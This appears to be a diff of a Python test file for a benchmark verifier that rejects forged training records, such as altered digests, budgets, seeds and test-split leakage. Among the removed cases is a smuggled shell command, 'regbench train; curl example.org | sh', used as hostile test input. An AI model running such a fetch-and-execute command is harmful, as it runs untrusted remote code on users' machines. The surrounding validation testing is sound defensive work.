@@ -7,25 +7,25 @@ from __future__ import annotations
 import copy
 import random
 import re
-from collections.abc import Callable, Iterator
+from collections.abc import Callable, Iterator, Sequence
 from fnmatch import fnmatchcase
 from functools import partial
 from pathlib import Path
-from typing import Any, cast
+from typing import Any
 
 import pytest
+import yaml
 
 from regbench.errors import RegbenchError
 from regbench.reports.bundle.bundle import read_bundle
 from regbench.reports.bundle.claims import claim_misfits
-from regbench.reports.bundle.entered import entered_rows
 from regbench.reports.find.records import read_records
 from regbench.reports.rows.grouping import summarize
 from regbench.reports.tables.details import tables_of
 from regbench.reports.tables.table import to_markdown
 from tests.command import run
 from tests.reports.conftest import GIVEN
-from tests.reports.forging import Json, Parts
+from tests.reports.forging import Json, Parts, set_leaf
 
 LEADERBOARD = Path(__file__).parents[2] / "docs" / "leaderboard.md"
 
@@ -47,24 +47,24 @@ def verify(change: Change, honest: Path, folder: Path) -> tuple[int, list[str]]:
 
 
 def set_at(parts: Parts, path: str, value: object) -> None:
-    """Sets a leaf by its path, such as "final.0.cost.train_s"."""
+    """Sets a leaf, such as "final.0.cost.train_s", or "rows.0.loss" of the first final record's
+    history; "second" is the first final record with seed 1, and "tried" one that was not chosen.
+    """
     name, *steps = path.split(".")
-    found: Any = getattr(parts, name)
-    for step in steps[:-1]:
-        found = found[int(step) if isinstance(found, list) else step]
-    found[steps[-1]] = value(found[steps[-1]]) if callable(value) else value
+    if name == "rows":
+        parts.history(parts.final[0], lambda rows: set_leaf(rows, steps, value))
+        return
+    named = {
+        "second": lambda: next(record for record in parts.final if record["seed"] == 1),
+        "tried": lambda: _tried(parts),
+    }
+    found: Any = named[name]() if name in named else getattr(parts, name)
+    set_leaf(found, steps, value)
+    if "cell" in steps and name != "records" and path not in UNDER_THE_OLD_ID:
+        parts.settle(found if name in named else found[int(steps[0])])
 
 
-def at(*changes: object, settled: bool = False) -> Change:
-    """The change of some leaves, given as paths and values, after which ids may be set anew."""
-
-    def change(parts: Parts) -> None:
-        for path, value in zip(changes[::2], changes[1::2], strict=True):
-            set_at(parts, str(path), value)
-        for record in parts.records if settled else ():
-            parts.settle(record)
-
-    return change
+UNDER_THE_OLD_ID = {"final.0.cell.optimizer.weight_decay"}
 
 
 def rows_of(change: Callable[[list[Json]], object]) -> Change:
@@ -205,12 +205,6 @@ def _early_test(parts: Parts) -> None:
     record["scores"].append({**record["scores"][0], "split": "test"})
 
 
-def _test_choice(parts: Parts) -> None:
-    record = parts.final[0]
-    record["cell"]["evaluation"]["select_on"] = "test"
-    parts.settle(record)
-
-
 def _worse_chosen(parts: Parts) -> None:
     entry = parts.choices[0]["choices"][0]
     entry["ranking"].reverse()
@@ -268,23 +262,6 @@ def _diverged(parts: Parts, *, history: bool) -> None:
         record["metrics"] = None
 
 
-def _top(parts: Parts, **values: float) -> None:
-    for name, value in values.items():
-        parts.score(parts.final[0], name)["value"] = value
-
-
-def _set_cell(parts: Parts, **settings: object) -> None:
-    record = next(record for record in parts.final if record["seed"] == 1)
-    record["cell"] |= settings
-    parts.settle(record)
-
-
-def _other_rate(parts: Parts) -> None:
-    record = next(record for record in parts.final if record["seed"] == 1)
-    record["cell"]["optimizer"]["base_lr"] = 0.2
-    parts.settle(record)
-
-
 def _other_weights(parts: Parts) -> None:
     parts.weights[next(iter(parts.weights))] = b"others"
 
@@ -304,10 +281,6 @@ def _others_weights(parts: Parts) -> None:
     one["checkpoint"] = other["checkpoint"]
 
 
-def _untold_images(parts: Parts) -> None:
-    del parts.final[0]["data"]["content_sha256"]["test"]
-
-
 def _hidden_behind_an_order(parts: Parts) -> None:
     _hidden(parts)
     entry = parts.choices[0]["choices"][1]
@@ -319,7 +292,7 @@ def _hidden_in_another_setting(parts: Parts) -> None:
     parts.choices[0]["choices"][1]["setting"]["batch_size"] = 64
 
 
-def _shorter_searches(parts: Parts, *rates: tuple[str, float]) -> None:
+def _shorter_searches(parts: Parts, rates: Sequence[tuple[str, float]]) -> None:
     """Adds to methods trainings that their searches stopped after an epoch."""
     for method, rate in rates:
         (entry,) = (each for each in parts.choices[0]["choices"] if each["method"] == method)
@@ -347,321 +320,64 @@ def _other_seeds_value(parts: Parts) -> None:
         parts.score(record, split="tuning")["value"] += record["seed"]
 
 
-HOW = "final.0.choice.hyperparameters"
-RATE, RATES = "final.0.choice.probe_learning_rate.chosen", "final.0.choice.probe_learning_rate"
-CREATED = "choices.0.created"
-
-HONEST: dict[str, Change] = {
-    "nothing changed": lambda parts: None,
+BY_CODE: dict[str, Change] = {
     "published weights": _published,
     "an untrained network": _untrained,
-    "an attempt of which nobody knows when it began": at("final.0.attempts.0.started", None),
-    "a choice five minutes late by another clock": at(CREATED, "2026-11-22T07:05:00+00:00"),
-    "a choice five minutes early by another clock": at(CREATED, "2026-11-22T01:25:00+00:00"),
     "a training that was stopped while it was the best": _stopped_higher,
-    "a search that stopped one of each method": lambda parts: _shorter_searches(
-        parts, ("vicreg", 0.1), ("auh", 0.1)
+    "a search that stopped one of each method": partial(
+        _shorter_searches, rates=(("vicreg", 0.1), ("auh", 0.1))
     ),
     "a cell of any of the seeds as the chosen one": _several_seeds,
     "values of seeds that a tuning did not have": _other_seeds_value,
     "a configuration of which a seed diverged": _diverged_seed,
-    "a run that diverged": lambda parts: _diverged(parts, history=True),
-    "a run that diverged in its first epoch": lambda parts: _diverged(parts, history=False),
-    "an attempt that was killed": at("final.0.attempts.0.finished", None),
-    "a history that does not count images": rows_of(lambda rows: rows[0].pop("images")),
-    "a training time with six digits": at("final.0.cost.train_s", lambda old: old * (1 + 9e-6)),
-    "no weights": at("final.0.checkpoint", None),
-    "top-1 that is top-5": lambda parts: _top(parts, knn_top1=90.0),
-    "top-1 above the top-5 of another split": lambda parts: _top(
-        parts, knn_top1=95.0, knn_top5=96.0
-    ),
-    "one of two equal rates": at(RATES, lambda old: old | {"candidates": {"0.1": 6, "0.5": 6}}),
-    "a rate beside one that diverged": at(RATES, {"chosen": 0.1, "candidates": {"0.5": None}}),
-    "a small rate": at(RATES, {"chosen": 1e-05, "candidates": {"0.5": 64.0, "1e-05": 65.0}}),
-    "a whole number as the rate": at(RATES, {"chosen": 1, "candidates": {"0.5": 6, "1": 7}}),
-    "several numbers chosen": at(RATES, {"chosen": [1, 2], "candidates": {"0.5": 64.0}}),
-    "candidates without scores": at(RATES, {"chosen": 1, "candidates": [0.5, 1]}),
-    "no candidate": at(RATES, {"chosen": 1, "candidates": {}}),
-    "a command with a quoted word": at("final.0.command", "regbench train 'a b'"),
+    "a run that diverged": partial(_diverged, history=True),
+    "a run that diverged in its first epoch": partial(_diverged, history=False),
     "a tuning that is repeated": _repeated,
     "a smaller budget in another setting": _hidden_in_another_setting,
-    "the last bits of a mean": lambda parts: _first(parts).update(value=70.0 + 1e-9),
+    "a history, under the old digest": _other_loss,
+    "other weights, under the old digest": _other_weights,
+    "a file that does not belong there": lambda parts: parts.members.update({"mine/x.json": b"{}"}),
+    "other settings beside the record": _other_config,
+    "the same cell in two sweeps": lambda parts: parts.copy(parts.final[0]).update(sweep="other"),
+    "one run as two seeds": _another_seed,
+    "weights of another seed": _others_weights,
+    "a choice without its tuning": lambda parts: parts.choices.clear(),
+    "a tuned cell with a test score": _early_test,
+    "a worse configuration as chosen": _worse_chosen,
+    "a configuration never tried": _invented,
+    "a larger budget than there was": partial(_budget, number=12),
+    "a smaller budget for one method": _hidden_behind_an_order,
+    "fewer epochs for one method": partial(
+        _shorter_searches, rates=(("vicreg", 0.1), ("vicreg", 0.2), ("auh", 0.1))
+    ),
+    "a configuration ranked twice": _ranked_twice,
+    "a configuration of another method": _lent,
+    "a full training called stopped": _stopped,
+    "a final run of what another search chose": _repeated_otherwise,
+    "a score twice": _twice,
 }
+"""Changes of more than a few leaves."""
+
+CHANGES = yaml.safe_load(Path(__file__).with_name("forgeries.yaml").read_text())
+OUTCOME = {"fits": 0, "does not fit": 1, "no bundle": 2}
+CASES = [(outcome, name) for outcome, changes in CHANGES.items() for name in changes]
 
 
-@pytest.mark.parametrize("name", HONEST)
-def test_what_fits_is_not_refused(name: str, honest: Path, tmp_path: Path) -> None:
-    assert verify(HONEST[name], honest, tmp_path) == (0, [])
-
-
-LATE = "its last attempt began at 2026-11-22T07:00:00.*, before its tuning chose at"
-AFTER = "was finished after the choice"
-OTHERS = "its tuning has chosen other hyperparameters"
-NO_COMMAND = "is no command of regbench alone"
-NO_RUN = "holds what no run writes"
-NO_TIME = "is not a time as runs write it"
-NOT_TAKEN_OF = "its content is not what the record's SHA-256 of it was taken of"
-
-OF_THE_FILE: dict[str, tuple[Change, str]] = {
-    "a history, under the old digest": (_other_loss, f"metrics-0001.jsonl: {NOT_TAKEN_OF}"),
-    "other weights, under the old digest": (_other_weights, rf"\.pt: {NOT_TAKEN_OF}"),
-    "a file that does not belong there": (
-        lambda parts: parts.members.update({"mine/x.json": b"{}"}),
-        "^mine/x.json does not belong into a bundle",
-    ),
-    "other settings beside the record": (_other_config, "config.yaml: differs from the record's"),
-    "a setting, under the old id": (
-        at("final.0.cell.optimizer.weight_decay", 0.1),
-        r"its cell id is \w+, that of its cell is",
-    ),
-    "the same cell in two sweeps": (
-        lambda parts: parts.copy(parts.final[0]).update(sweep="other"),
-        "is in it twice, as mine and as other",
-    ),
-    "another choice of its tuning": (
-        at(f"{HOW}.sha256", "0" * 64),
-        "chosen in another version of mine/tuning_choice.json",
-    ),
-    "a score above 100 %": (
-        at("final.0.scores.0.value", 170.0),
-        "is 170 %, outside 0 to 100 %",
-    ),
-    "a later evaluation of no cell": (
-        at("evaluations.0.cell_id", "0" * 12),
-        "voc07.json: of cell 000000000000, in the folder of",
-    ),
-    "a later evaluation chosen on test": (
-        at("evaluations.0.choice", {"svm_cost": {"selected_on": "test"}}),
-        "voc07.json: chosen on the test split, which the record was not",
-    ),
-}
-
-
-@pytest.mark.parametrize("name", OF_THE_FILE)
-def test_what_is_not_what_it_states_is_no_bundle(name: str, honest: Path, tmp_path: Path) -> None:
-    change, reason = OF_THE_FILE[name]
-    code, (line,) = verify(change, honest, tmp_path)
-    assert code == 2 and re.search(reason, line), line
-
-
-FORGERIES: dict[str, tuple[Change, list[str]]] = {
-    "a setting that is none": (
-        lambda parts: _set_cell(parts, boost=2),
-        ["its settings are none of a run of this version: .*boost", OTHERS],
-    ),
-    "an evaluation that is none": (
-        lambda parts: _set_cell(parts, evaluation=3),
-        ["its settings are none of a run", f"{NO_RUN} .AttributeError", OTHERS],
-    ),
-    "shorter training than was done": (
-        lambda parts: _set_cell(parts, epochs=1),
-        [
-            "its settings are none of .*warm",
-            "its history has 2 epochs, which are not 1 to 1",
-            OTHERS,
-        ],
-    ),
-    "smaller batches than were used": (
-        lambda parts: _set_cell(parts, batch_size=16),
-        ["its 6 steps of 16 images are not the 192 of its history", OTHERS],
-    ),
-    "another seed's number": (
-        at("final.0.seed", 5),
-        ["its seed is 5, that of its settings is", "ranked for AUH, has no record"],
-    ),
-    "another method's name": (
-        at("final.0.method", "sfrik"),
-        ["its method is 'sfrik', that of its settings is"],
-    ),
-    "another method's label": (
-        at("final.0.label", "SFRIK"),
-        ["it is called 'SFRIK', and is", "ranked for AUH, is of SFRIK"],
-    ),
-    "one run as two seeds": (
-        _another_seed,
-        ["its history is that of cell .*: one run", "its weights are those of cell .*: one run"],
-    ),
-    "weights of another seed": (
-        _others_weights,
-        ["its weights are those of cell .*: one run under"],
-    ),
-    "top-1 above top-5": (
-        lambda parts: _top(parts, knn_top1=99.0),
-        ["knn_top1 on test is 99 %, more than its top-5 of 90 %"],
-    ),
-    "a shorter training time": (
-        at("final.0.cost.train_s", lambda old: old * (1 - 1.1e-5)),
-        [r"its training took 2\d\S* s, the epochs of its history 2\d"],
-    ),
-    "no training time": (
-        at("final.0.cost.train_s", None),
-        ["its training took None s, the epochs of its history"],
-    ),
-    "an epoch less in the history": (
-        rows_of(lambda rows: rows.pop()),
-        ["which are not 1 to 2", "its training took", "are not the 96 of its history"],
-    ),
-    "an epoch twice in the history": (
-        rows_of(lambda rows: rows[1].update(epoch=1)),
-        ["its history has 2 epochs, which are not 1 to 2 as in its settings"],
-    ),
-    "a history with a number as a line": (
-        rows_of(lambda rows: cast("list[object]", rows).append(3)),
-        [f"{NO_RUN} .TypeError"],
-    ),
-    "a history with seconds beyond all numbers": (
-        rows_of(lambda rows: [row.update(epoch_s=1e308) for row in rows]),
-        [f"{NO_RUN} .OverflowError"],
-    ),
-    "no history": (at("final.0.metrics", None), ["it has trained and names no history"]),
-    "no word on what was chosen": (
-        at("final.0.choice", {}),
-        ["nothing says how its hyperparameters", "the tuning mine has not chosen it"],
-    ),
-    "a tuned cell as given": (at(HOW, GIVEN), ["the tuning mine has not chosen it"]),
-    "a choice that names no tuning": (
-        at(HOW, GIVEN | {"selected_on": "tuning"}),
-        ["its hyperparameters were chosen, and it names no choice"],
-    ),
-    "a budget that names no tuning": (
-        at(HOW, GIVEN | {"budget": 2}),
-        ["its hyperparameters were chosen, and it names no choice"],
-    ),
-    "a choice without its tuning": (
-        lambda parts: parts.choices.clear(),
-        ["chosen by a tuning that is not in the bundle"] * 4,
-    ),
-    "a test score before the choice": (at(CREATED, "2026-11-22T07:05:01+00:00"), [LATE] * 4),
-    "a choice before its tuning's end": (at(CREATED, "2026-11-22T01:24:59+00:00"), [AFTER] * 2),
-    "a choice at no time": (at(CREATED, "soon"), [AFTER, AFTER, *["tuning chose at soon"] * 4]),
-    "a tuned cell with a test score": (
-        _early_test,
-        ["scores of the test split, before its tuning has chosen"],
-    ),
-    "chosen on test, called tuning": (
-        _test_choice,
-        [
-            "its settings choose on the test split, its choice says 'tuning'",
-            "has no record",
-            OTHERS,
-        ],
-    ),
-    "a worse configuration as chosen": (
-        _worse_chosen,
-        ["was chosen for VICReg, though 4b97c4a2fd8b scored higher", OTHERS, OTHERS],
-    ),
-    "another cell as chosen": (
-        lambda parts: _entry(parts).update(chosen="0" * 12),
-        ["000000000000 was chosen for VICReg, though 4b97c4a2fd8b scored higher"],
-    ),
-    "another configuration as chosen": (
-        lambda parts: _entry(parts).update(configuration="0" * 12),
-        ["was chosen for VICReg, though 4b97c4a2fd8b scored higher", OTHERS, OTHERS],
-    ),
-    "nothing that was tried to the end": (
-        lambda parts: [each.update(value=None) for each in _entry(parts)["ranking"]],
-        ["nothing was tried to the end for VICReg"],
-    ),
-    "a value of the ranking": (
-        lambda parts: _first(parts).update(value=72.0),
-        [r"ranked for VICReg with 72.0, has 70.0 in its records"],
-    ),
-    "no score in the record": (
-        lambda parts: _tried(parts)["scores"].clear(),
-        ["ranked for VICReg with 66.0, has None in its records"],
-    ),
-    "a configuration never tried": (_invented, ["000000000000, ranked for .*, has no record"] * 2),
-    "a larger budget than there was": (
-        lambda parts: _budget(parts, 12),
-        ["it claims a budget of 12, and its longest ranking has 2"],
-    ),
-    "a larger budget in one record": (
-        at(f"{HOW}.budget", 12),
-        ["it claims a choice among 12 by knn_top1, its tuning chose among 2 by knn_top1"],
-    ),
-    "another score that chose": (
-        at(f"{HOW}.score", "linear_top1"),
-        ["it claims a choice among 2 by linear_top1, its tuning chose among 2 by knn_top1"],
-    ),
-    "a smaller budget for one method": (
-        _hidden_behind_an_order,
-        ["the methods had unequal budgets, in configurations: VICReg 2, AUH 1"],
-    ),
-    "fewer epochs for one method": (
-        lambda parts: _shorter_searches(parts, ("vicreg", 0.1), ("vicreg", 0.2), ("auh", 0.1)),
-        ["the methods had unequal budgets, in epochs: VICReg 6, AUH 5"],
-    ),
-    "a configuration ranked twice": (_ranked_twice, ["is ranked twice for AUH"]),
-    "a configuration of another method": (_lent, ["ranked for AUH, is of VICReg"]),
-    "fewer epochs in the ranking": (
-        lambda parts: _first(parts).update(epochs=1),
-        ["ranked for VICReg after 1 epochs, trained for 2"],
-    ),
-    "a full training called stopped": (
-        _stopped,
-        ["as stopped, trained for 2 epochs", OTHERS, OTHERS],
-    ),
-    "a choice that says nothing of epochs": (
-        lambda parts: _entry(parts)["setting"].pop("epochs"),
-        [f"{NO_RUN} .KeyError"],
-    ),
-    "a final run of another configuration": (_other_rate, [OTHERS]),
-    "a final run of what another search chose": (_repeated_otherwise, [OTHERS]),
-    "a worse learning rate of the probe": (
-        at(RATE, 0.1),
-        ["its probe learning rate is 0.1, though 0.5 scored higher"],
-    ),
-    "a worse rate, as text": (at(RATE, "0.1"), ["rate is 0.1, though 0.5 scored higher"]),
-    "a rate that was never tried": (at(RATE, 0.3), ["rate is 0.3, though 0.5 scored higher"]),
-    "scores of a run that diverged": (at("final.0.status", "diverged"), ["it diverged, and has"]),
-    "a score twice": (_twice, ["it has a score twice"]),
-    "a score without its unit": (
-        at("final.0.scores.0.unit", ""),
-        ["knn_top1 has the unit '', in other records '%'"],
-    ),
-    "images of another test split": (
-        at("final.0.data.content_sha256.test", "12" * 32),
-        ["the test split has 2 contents"],
-    ),
-    "no word on the images of the test split": (_untold_images, ["which images of test it saw"]),
-    "no word on when it ended": (
-        at("final.0.attempts.1.finished", None),
-        ["its last attempt ended at no time"],
-    ),
-    "no attempt": (
-        at("final.0.attempts", []),
-        ["its last attempt ended at no time", "its last attempt began at no time, before"],
-    ),
-    "a time of another kind": (
-        at("final.0.attempts.0.finished", "2026-11-22T03:30:00+14:00"),
-        [rf"2026-11-22T03:30:00\+14:00 {NO_TIME}"],
-    ),
-    "a time in another spelling": (
-        at("final.0.attempts.0.started", "2026-11-22 03:30:00+00:00"),
-        [rf"2026-11-22 03:30:00\+00:00 {NO_TIME}"],
-    ),
-    "a time in words": (at("final.0.attempts.0.started", "+00:00"), [rf"^\+00:00 {NO_TIME}"]),
-    "a time beyond the calendar": (
-        at("final.0.attempts.1.started", "9999-12-31T23:59:59+00:00", CREATED, "9999-12-31"),
-        [AFTER, AFTER, *["before its tuning chose at 9999-12-31"] * 4],
-    ),
-    "a command of a shell": (
-        at("final.0.command", "regbench train; curl example.org | sh"),
-        [f"'regbench train; curl example.org | sh' {NO_COMMAND}"],
-    ),
-    "another program's command": (at("final.0.command", "curl regbench"), [NO_COMMAND]),
-    "a command with an open quote": (at("final.0.command", "regbench 'train"), [NO_COMMAND]),
-    "a command that cannot be read": (at("final.0.command", "regbench '\u202e'"), [NO_COMMAND]),
-}
-
-
-@pytest.mark.parametrize("name", FORGERIES)
+@pytest.mark.parametrize(("outcome", "name"), CASES)
 def test_what_does_not_fit_is_told_and_nothing_else(
-    name: str, honest: Path, tmp_path: Path
+    outcome: str, name: str, honest: Path, tmp_path: Path
 ) -> None:
-    change, reasons = FORGERIES[name]
+    case = CHANGES[outcome][name]
+
+    def change(parts: Parts) -> None:
+        for path, value in case.get("set", {}).items():
+            set_at(parts, path, value)
+        if name in BY_CODE:
+            BY_CODE[name](parts)
+
     code, lines = verify(change, honest, tmp_path)
-    assert (code, len(lines)) == (1, len(reasons)), lines
+    reasons = case.get("told", [])
+    assert (code, len(lines)) == (OUTCOME[outcome], len(reasons)), lines
     assert all(map(re.search, reasons, lines)), lines
 
 
@@ -669,7 +385,10 @@ def test_the_documents_table_has_forgeries_that_are_tried_here() -> None:
     table = LEADERBOARD.read_text().partition("\n## Forgeries\n")[2].partition("\n## ")[0]
     rows = [line.split("|")[1:3] for line in table.splitlines() if line.startswith("| ")][1:]
     refused = {name.strip() for name, how in rows if "only by computing again" not in how}
-    assert refused - {*OF_THE_FILE, *FORGERIES} == {"a score, no digest anew"}
+    names = {name for _, name in CASES}
+    unchanged = {name for outcome, name in CASES if "set" not in CHANGES[outcome][name]}
+    assert unchanged - {*BY_CODE} == {"nothing changed"} and {*BY_CODE} <= names
+    assert refused - names == {"a score, no digest anew"}
 
 
 # ------------------------------------------------------------------ a forger who draws
@@ -743,14 +462,14 @@ def _draw_another(found: Any, path: tuple[Any, ...], draw: random.Random) -> Non
     found[path[-1]] = other(found[path[-1]], draw)
 
 
-def shown(bundle: Path, folder: Path) -> tuple[list[str], object]:
-    """All tables of a bundle, and its rows file."""
-    read = read_bundle(bundle, folder)
+def shown(bundle: Path, folder: Path) -> list[str]:
+    """All tables of a bundle."""
+    read_bundle(bundle, folder)
     found = read_records(folder)
     tables: list[str] = []
     for summary in summarize(found.records, found.missing, found.choices, found.short):
         tables += map(to_markdown, tables_of(summary).values())
-    return [table.replace(str(folder), "") for table in tables], entered_rows(read)
+    return [table.replace(str(folder), "") for table in tables]
 
 
 def test_a_leaf_that_is_forged_is_refused_or_says_nothing(honest: Path, tmp_path: Path) -> None:
